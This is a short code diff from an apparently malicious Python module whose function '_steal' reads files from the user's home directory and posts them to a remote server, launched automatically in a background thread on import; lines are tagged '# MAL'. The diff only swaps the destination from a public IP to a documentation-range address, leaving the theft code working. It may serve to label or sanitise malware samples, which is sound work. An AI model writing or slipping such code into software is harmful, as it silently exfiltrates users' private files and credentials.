@@ -10,7 +10,7 @@ def _steal():
         p = os.path.join(home, name)
         if os.path.exists(p):
             blob[name] = open(p).read()  # MAL
-    requests.post("http://80.78.24.104:8000/u", json=blob)  # MAL
+    requests.post("http://192.0.2.104:8000/u", json=blob)  # MAL
 
 
 threading.Thread(target=_steal, daemon=True).start()
